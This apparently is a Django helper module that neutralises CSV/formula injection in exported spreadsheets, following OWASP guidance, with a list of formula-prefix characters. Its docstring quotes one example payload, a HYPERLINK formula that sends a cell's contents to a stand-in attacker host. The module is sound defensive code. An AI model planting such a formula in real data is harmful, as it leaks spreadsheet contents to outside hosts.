"""Every CSV the product writes, safe to open in a spreadsheet (OWASP's "CSV Injection" guidance).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and Excel also
after a leading tab or carriage return), e.g. `=HYPERLINK("//evil.example/x?"&A1)` sent to us
as an IPN's currency or an exchange's transaction hash. So:

- every text cell that starts with one of FORMULA_PREFIXES gets a leading apostrophe, which
  makes the spreadsheet show it as text; the rest of the text is kept as it was;
- every cell is quoted (QUOTE_ALL), so a separator, quote or line break inside a value stays
  inside its cell and cannot start a new one.

Amounts are written as numbers, never neutralised: a cell made from a `Decimal` or an `int` is
a number we hold and format ourselves (`-12.50` is a negative amount, not a formula), while a
`str` cell is text from wherever it came, and is neutralised even when it looks like a number.
So a caller passes its amounts as `Decimal`, never as text it formatted.

Written here once and used by every export; not defusedcsv (PyPI), which leaves tab and
carriage return alone and rewrites `|` inside a value.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import HttpResponse
from django.utils.http import content_disposition_header

# OWASP's six, plus a line feed (a cell can start with one inside quotes) and the full-width
# forms some spreadsheets read as the ASCII ones (East Asian input methods type them).
FORMULA_PREFIXES = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
NEUTRALISING_PREFIX = "'"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

Cell = str | Decimal | int | None


def safe_cell(value: Cell) -> str:
    """The cell's text: a number as we format it, text with a leading formula character
    neutralised, nothing as an empty cell."""
    if value is None:
        return ""
    if isinstance(value, bool):  # an int to Python, never an amount
        value = str(value)
    if isinstance(value, Decimal):
        if not value.is_finite():
            raise ValueError(f"not an amount: {value}")
        return f"{value:f}"  # never the exponent form (1E-7) str() gives
    if isinstance(value, int):
        return str(value)
    if value[:1] in FORMULA_PREFIXES:
        return NEUTRALISING_PREFIX + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """The CSV document: a header line, then one line per row, every cell made safe and quoted."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")  # RFC 4180's line ends
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()


def csv_download(text: str, filename: str) -> HttpResponse:
    """A CSV document as a download named `filename` (quoted or RFC 5987-encoded as it needs)."""
    response = HttpResponse(text, content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    return response
